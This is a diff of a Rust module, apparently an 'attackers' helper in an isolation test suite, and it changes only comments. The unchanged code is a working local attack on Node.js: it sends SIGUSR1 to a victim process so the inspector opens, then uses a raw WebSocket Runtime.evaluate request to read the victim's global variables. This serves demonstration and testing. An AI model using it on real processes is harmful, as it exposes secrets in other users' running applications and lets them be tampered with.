@@ -1,4 +1,5 @@
-//! A process that can connect to the inspector of a Node process reads and changes everything in it.
+//! Attacks through the inspector of a Node process: who can connect to it can read and change everything in
+//! the process.
 
 use std::{
     io::{self, Read as _, Write as _},
@@ -13,7 +14,8 @@ use nix::{
 
 use super::{attackers::until, number};
 
-/// Has a Node process open its inspector, as every process that may send it signals can, and waits until it has.
+/// Makes a Node process open its inspector, and waits until it is open. Every process that may send it
+/// signals can do so.
 pub(super) fn open(victim: &str, port: &str) -> Result<(), String> {
     knock(victim)?;
     let port = number(port)?;
@@ -22,14 +24,14 @@ pub(super) fn open(victim: &str, port: &str) -> Result<(), String> {
     Ok(())
 }
 
-/// Sends the signal alone.
+/// Sends only the signal.
 pub(super) fn knock(victim: &str) -> Result<(), String> {
     kill(Pid::from_raw(number(victim)?), Signal::SIGUSR1).map_err(|errno| format!("SIGUSR1: {errno}"))?;
     println!("knocked");
     Ok(())
 }
 
-/// Reads a global variable of the process whose inspector is at a port.
+/// Reads a global variable of the process whose inspector listens on a port.
 pub(super) fn read(port: &str, variable: &str) -> Result<(), String> {
     let port = number(port)?;
     match evaluate(port, variable) {
@@ -45,7 +47,7 @@ fn connect(port: u16) -> io::Result<TcpStream> {
     Ok(stream)
 }
 
-/// Reads until a text has come.
+/// Reads until the text has arrived.
 fn read_until(stream: &mut TcpStream, wanted: &str) -> io::Result<String> {
     let mut bytes = Vec::new();
     let mut chunk = [0; 4096];
@@ -62,7 +64,7 @@ fn read_until(stream: &mut TcpStream, wanted: &str) -> io::Result<String> {
     }
 }
 
-/// Asks for a value over the inspector's protocol: JSON in frames of a WebSocket (RFC 6455).
+/// Evaluates a variable over the inspector's protocol: JSON in WebSocket frames (RFC 6455).
 fn evaluate(port: u16, variable: &str) -> io::Result<String> {
     let mut stream = connect(port)?;
     write!(
@@ -91,7 +93,7 @@ fn evaluate(port: u16, variable: &str) -> io::Result<String> {
     let order = format!(r#"{{"id":1,"method":"Runtime.evaluate","params":{{"expression":"{variable}"}}}}"#);
     let length = u8::try_from(order.len()).map_err(io::Error::other)?;
     assert!(length < 126, "a short frame");
-    // A whole text, masked (with zeros) as a client's frames must be.
+    // A complete text frame, masked (with zeros) as a client's frames must be.
     stream.write_all(&[0x81, 0x80 | length, 0, 0, 0, 0])?;
     stream.write_all(order.as_bytes())?;
     let answer = read_until(&mut stream, "}}}")?;
